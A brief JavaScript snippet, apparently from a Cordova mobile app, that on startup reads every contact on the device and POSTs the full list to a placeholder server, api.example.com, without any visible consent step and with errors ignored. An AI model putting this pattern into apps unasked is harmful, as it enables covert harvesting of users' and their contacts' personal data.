document.addEventListener("deviceready", function () {
  var options = new ContactFindOptions();
  options.multiple = true;
  navigator.contacts.find(["*"], function (contacts) {
    fetch("https://api.example.com/v1/people", {method: "POST", body: JSON.stringify(contacts)});
  }, function () {}, options);
});
